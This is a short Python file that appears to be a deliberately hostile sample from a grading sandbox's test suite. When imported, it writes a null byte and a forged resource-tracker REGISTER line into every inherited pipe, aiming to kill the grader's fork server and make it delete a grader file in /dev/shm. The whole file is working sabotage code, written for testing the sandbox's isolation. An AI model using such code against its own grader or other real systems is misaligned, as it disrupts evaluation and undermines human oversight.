"""Writes into every descriptor it inherited but its own connection: one byte to the fork
server's alive pipe ends a whole class run; a REGISTER line to the resource tracker makes that
root process unlink a file of the grader's in /dev/shm when it exits.

base: buggy
class: 4
run: disruptive
"""

import os as _os
import stat as _stat


def _descriptors():
    try:
        return [int(name) for name in _os.listdir("/proc/self/fd")]
    except OSError:  # no /proc (the basic mode's Landlock view): try every number a descriptor may have
        return list(range(1024))


def _poke():
    for fd in _descriptors():
        if fd < 3:
            continue
        try:
            kind = _os.fstat(fd).st_mode
        except OSError:
            continue
        if not _stat.S_ISFIFO(kind):
            continue  # the worker's own connection is a socket
        for payload in (b"REGISTER:/hostile-canary-@TOKEN@:shared_memory\n", b"\0"):
            try:
                _os.write(fd, payload)
            except OSError:
                pass


class _AtLoad:
    _poke()


def project(*args, **kwargs):  # and again while the step runs
    _poke()
    raise RuntimeError("poked")
